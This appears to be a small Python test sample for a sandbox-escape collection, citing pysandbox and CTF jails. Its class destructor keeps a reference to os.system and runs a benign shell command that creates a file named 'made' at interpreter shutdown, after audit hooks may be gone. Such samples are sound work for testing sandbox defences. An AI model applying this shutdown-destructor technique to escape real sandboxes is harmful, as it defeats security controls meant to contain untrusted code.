"""A destructor runs while the interpreter ends.

Known from: the history of pysandbox; CTF jails with a hook that is gone by then
Effect: made
"""
import os
import sys


class Last:
    def __del__(self, system=os.system):
        system(": > made")


sys.last = Last()
